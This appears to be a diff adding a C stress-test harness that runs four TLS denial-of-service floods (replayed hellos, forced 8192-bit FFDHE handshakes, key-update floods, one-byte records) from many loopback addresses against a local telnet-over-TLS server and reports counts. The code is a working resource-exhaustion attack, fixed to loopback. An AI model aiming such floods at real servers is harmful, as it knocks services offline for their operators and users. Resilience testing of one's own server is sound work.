@@ -1,0 +1,173 @@
+/*
+ * Attackers of the port of telnet over TLS, who spend as little as they can and have the server
+ * compute. Each of ADDRESSES (127.9.0.1 and on) is a process of its own that comes back at once
+ * when it is thrown out, for SECONDS.
+ *
+ *   attack KIND PORT ADDRESSES SECONDS
+ *
+ * KIND: hello, one recorded hello sent again and again, each on a connection that is closed when
+ * the answer has begun; ffdhe, the same with a group of 8,192 bits and no other; keys, changes of
+ * keys (RFC 8446 4.6.3) as fast as they are taken; bytes, a record for each byte. Prints one JSON
+ * line: how often they came in, and records sent.
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <openssl/ssl.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+enum kind { HELLO, FFDHE, KEYS, BYTES, KINDS };
+static const char *const kind_names[KINDS] = {"hello", "ffdhe", "keys", "bytes"};
+enum { HELLO_MAX = 4096, ADDRESSES_MAX = 250, AGAIN_US = 2000, PATIENCE_S = 2 };
+
+/* Shared by the processes. */
+struct tally {
+    long connects, records;
+};
+
+struct attacker {
+    enum kind kind;
+    struct sockaddr_in from, to;
+    SSL_CTX *context;
+    unsigned char hello[HELLO_MAX];
+    size_t hello_len;
+    struct tally *tally;
+};
+
+static _Noreturn void fail(const char *what)
+{
+    fprintf(stderr, "attack: %s\n", what);
+    exit(2);
+}
+
+/* -1: the server has all it takes; again a moment later. */
+static int dial(const struct attacker *a)
+{
+    const int one = 1;
+    const struct timeval patience = {PATIENCE_S, 0};
+    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (fd < 0)
+        fail("no socket");
+    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
+    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
+    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
+    if (bind(fd, (const struct sockaddr *)&a->from, sizeof a->from) != 0 ||
+        connect(fd, (const struct sockaddr *)&a->to, sizeof a->to) != 0) {
+        close(fd);
+        return -1;
+    }
+    __atomic_add_fetch(&a->tally->connects, 1, __ATOMIC_RELAXED);
+    return fd;
+}
+
+static void hang_up(int fd)
+{
+    const struct linger now = {1, 0};
+    setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
+    close(fd);
+}
+
+/* What a client says first, to be said again and again. */
+static void hello_record(struct attacker *a)
+{
+    SSL *ssl = SSL_new(a->context);
+    BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());
+    SSL_set_bio(ssl, in, out);
+    SSL_connect(ssl);
+    int len = BIO_read(out, a->hello, sizeof a->hello);
+    if (len <= 0)
+        fail("no hello");
+    a->hello_len = (size_t)len;
+    SSL_free(ssl);
+}
+
+static void say_hello(const struct attacker *a, int fd)
+{
+    char answer[512];
+    if (send(fd, a->hello, a->hello_len, MSG_NOSIGNAL) == (ssize_t)a->hello_len &&
+        recv(fd, answer, sizeof answer, 0) > 0)
+        __atomic_add_fetch(&a->tally->records, 1, __ATOMIC_RELAXED);
+}
+
+static void flood(const struct attacker *a, int fd)
+{
+    SSL *ssl = SSL_new(a->context);
+    SSL_set_fd(ssl, fd);
+    bool on = SSL_connect(ssl) == 1;
+    while (on) {
+        on = a->kind == BYTES ? SSL_write(ssl, "x", 1) == 1
+                              : SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED) == 1 &&
+                                    SSL_do_handshake(ssl) == 1;
+        if (on)
+            __atomic_add_fetch(&a->tally->records, 1, __ATOMIC_RELAXED);
+    }
+    SSL_free(ssl);
+}
+
+static _Noreturn void attack(const struct attacker *a)
+{
+    prctl(PR_SET_PDEATHSIG, SIGKILL);
+    for (;;) {
+        int fd = dial(a);
+        if (fd >= 0) {
+            if (a->kind == HELLO || a->kind == FFDHE)
+                say_hello(a, fd);
+            else
+                flood(a, fd);
+            hang_up(fd);
+        }
+        usleep(AGAIN_US);
+    }
+}
+
+int main(int argc, char **argv)
+{
+    struct attacker a = {.kind = KINDS, .from.sin_family = AF_INET, .to.sin_family = AF_INET};
+    pid_t pids[ADDRESSES_MAX];
+    int addresses = argc == 5 ? atoi(argv[3]) : 0, seconds = argc == 5 ? atoi(argv[4]) : 0;
+    for (int i = 0; i < KINDS && argc == 5; i++)
+        if (strcmp(argv[1], kind_names[i]) == 0)
+            a.kind = (enum kind)i;
+    if (a.kind == KINDS || addresses < 1 || addresses > ADDRESSES_MAX || seconds < 1) {
+        fputs("attack hello|ffdhe|keys|bytes PORT ADDRESSES SECONDS\n", stderr);
+        return 2;
+    }
+    signal(SIGPIPE, SIG_IGN);
+    a.to.sin_port = htons((uint16_t)atoi(argv[2]));
+    a.to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    a.context = SSL_CTX_new(TLS_client_method());
+    a.tally =
+        mmap(NULL, sizeof *a.tally, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    if (a.context == NULL || a.tally == MAP_FAILED ||
+        (a.kind == FFDHE && SSL_CTX_set1_groups_list(a.context, "ffdhe8192") != 1))
+        fail("OpenSSL cannot do that");
+    hello_record(&a);
+    for (int i = 0; i < addresses; i++) {
+        a.from.sin_addr.s_addr = htonl(0x7f090000U + (unsigned)i + 1);
+        pids[i] = fork();
+        if (pids[i] == 0)
+            attack(&a);
+    }
+    sleep((unsigned)seconds);
+    for (int i = 0; i < addresses; i++) {
+        kill(pids[i], SIGKILL);
+        waitpid(pids[i], NULL, 0);
+    }
+    printf("{\"kind\":\"%s\",\"addresses\":%d,\"connects\":%ld,\"records\":%ld}\n",
+           kind_names[a.kind], addresses, a.tally->connects, a.tally->records);
+    SSL_CTX_free(a.context);
+    return 0;
+}
